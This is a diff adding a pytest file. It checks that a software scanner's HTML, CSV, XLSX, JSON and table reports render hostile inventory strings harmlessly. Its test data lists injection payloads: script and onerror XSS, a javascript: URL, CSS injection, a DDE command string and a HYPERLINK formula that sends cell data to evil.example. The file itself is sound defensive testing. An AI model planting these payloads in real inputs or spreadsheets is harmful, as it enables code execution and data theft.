@@ -1,0 +1,157 @@
+"""Hostile strings in every field, rendered safely in every format.
+
+Inventory strings come from machines we do not control (a DisplayName is whatever an installer
+wrote), and the register and site names are typed by people.  Each format must keep them inert:
+HTML escapes them (no element or attribute an attacker chose), CSV/XLSX neutralise formulas,
+the table flattens control characters, JSON round-trips them exactly.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date
+from html.parser import HTMLParser
+
+import pytest
+from openpyxl import load_workbook
+
+import reports.csv
+import reports.html
+import reports.json
+import reports.table
+import reports.xlsx
+from agents.inventory import Hardware, Host, Inventory, OsInfo
+from scanner.exceptions import Register, RiskException
+from scanner.match import HostResult
+from scanner.model import Finding, MatchDetail, Status
+from scanner.rank import EstateReport, build_report
+from scanner.store import HostStatus
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(2)>',
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTAB=1+1",
+    "\rCR",
+    "abc\u202eexe.txt",  # right-to-left override
+    "😀 emoji ✓",
+    "NUL\x00byte",
+    "line\nbreak\x1b[31mred",
+    "x" * 5000,
+    "</style><style>body{display:none}</style>",
+    "javascript:alert(3)",
+]
+
+
+def _estate() -> EstateReport:
+    results: list[HostResult] = []
+    for i, evil in enumerate(HOSTILE):
+        host = Host(hostname=f"{evil}-{i}", machine_id=f"mid-{i}", site=f"Site {evil[:40]}", tags=[evil, "clinical"])
+        inv = Inventory(host=host, os=OsInfo(family="windows", name=evil), hardware=Hardware(cpu_model=evil,
+                        vendor=evil, model=evil, tpm_present=True, tpm_version=evil),
+                        collected_at="2026-11-28T09:00:00Z")
+        detail = MatchDetail(rule=evil, reason=evil, evidence={evil: evil}, dataset_version=evil,
+                             release_label=evil)
+        base = {"host_key": f"mid-{i}", "hostname": host.hostname, "site": host.site, "tags": host.tags}
+        os_f = Finding(kind="os", name=evil, version=evil, product="windows", cycle="10-22h2", status=Status.EOL,
+                       eol=date(2025, 10, 14), extended_until=None, detail=detail, product_label=evil, **base)
+        app = Finding(kind="software", name=evil, version=evil, product=evil, cycle=evil, status=Status.EOL,
+                      eol=date(2024, 1, 1), extended_until=None, detail=detail, product_label=evil, **base)
+        results.append(HostResult(inventory=inv, findings=[os_f, app]))
+    register = Register(path=HOSTILE[0], entries=[RiskException(
+        id=f"EX-{j}", category="risk-accepted", justification=evil, owner=evil, approver=evil,
+        approved_on=date(2026, 1, 1), expires=date(2027, 1, 1), product=HOSTILE[j],
+        compensating_controls=(evil, evil), manufacturer_ref=evil, risk=evil, notes=evil)
+        for j, evil in enumerate(HOSTILE)])
+    statuses = [HostStatus(target=evil, site=f"Site {evil[:40]}", status="unreachable", error=evil, at=evil,
+                           last_ok_at=evil) for evil in HOSTILE]
+    return build_report(results, statuses, date(2026, 11, 30), HOSTILE[2], HOSTILE[1], register=register,
+                        demo=HOSTILE[0])
+
+
+@pytest.fixture(scope="module")
+def report() -> EstateReport:
+    return _estate()
+
+
+class _Elements(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+
+ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "div", "header", "main", "footer", "h1", "h2",
+                "h3", "p", "section", "figure", "figcaption", "svg", "rect", "text", "line", "table",
+                "thead", "tbody", "tr", "th", "td", "span", "b", "a", "script"}
+ALLOWED_ATTRS = {"charset", "http-equiv", "content", "name", "lang", "class", "id", "role", "aria-label",
+                 "xmlns", "viewbox", "width", "height", "preserveaspectratio", "x", "y", "x1", "y1", "x2", "y2",
+                 "fill", "stroke", "text-anchor", "scope", "data-type", "data-v", "href"}
+
+
+def test_html_escapes_everything(report: EstateReport) -> None:
+    page = reports.html.render(report)
+    parser = _Elements()
+    parser.feed(page)
+    tags = [t for t, _ in parser.tags]
+    assert set(tags) <= ALLOWED_TAGS, set(tags) - ALLOWED_TAGS
+    assert tags.count("script") == 1 and tags.count("style") == 1 and "img" not in tags
+    for tag, attrs in parser.tags:
+        for name, value in attrs:
+            assert name in ALLOWED_ATTRS, (tag, name)
+            if name == "href":
+                assert value is not None and value.startswith("#site-")
+    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "onerror=alert" not in page.replace("onerror=alert(2)&gt;", "")  # only as escaped text
+    assert "\u202e" not in page and "&lt;U+202E&gt;" in page  # bidi override shown, not obeyed
+    assert "\x00" not in page and "\x1b" not in page
+    assert "Content-Security-Policy" in page and "default-src 'none'" in page
+
+
+def test_csv_neutralises_formulas(report: EstateReport) -> None:
+    rows = list(csv.reader(io.StringIO(reports.csv.render(report))))
+    assert len(rows) > len(HOSTILE)
+    cells = [c for row in rows for c in row]
+    for c in cells:
+        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c[:40]
+        assert "\x00" not in c
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
+    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+
+
+def test_xlsx_reads_back_inert(report: EstateReport) -> None:
+    wb = load_workbook(io.BytesIO(reports.xlsx.render(report)))
+    seen: set[str] = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    seen.add(cell.value)
+                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value[:40]
+                    assert "\x00" not in cell.value and "\x1b" not in cell.value
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in seen
+    assert any(v.startswith("'+cmd|") for v in seen)
+    assert "x" * 5000 in seen and "😀 emoji ✓" in seen
+    assert all(len(title) <= 31 and not set(title) & set("[]:*?/\\") for title in wb.sheetnames)
+
+
+def test_json_round_trips_exactly(report: EstateReport) -> None:
+    data = json.loads(reports.json.render(report))
+    names = {f["name"] for s in data["sites"] for h in s["hosts"] for f in h["findings"]}
+    assert set(HOSTILE) <= names
+    assert data["demo"] == HOSTILE[0] and data["tool_version"] == HOSTILE[1]
+
+
+def test_table_stays_one_line_per_row(report: EstateReport) -> None:
+    text = reports.table.render(report)
+    assert "\x00" not in text and "\x1b" not in text and "\u202e" not in text and "\r" not in text
+    assert not any(line.startswith("break") for line in text.splitlines())  # "line\nbreak" stayed one line
+    assert max(len(line) for line in text.splitlines()) < 1200
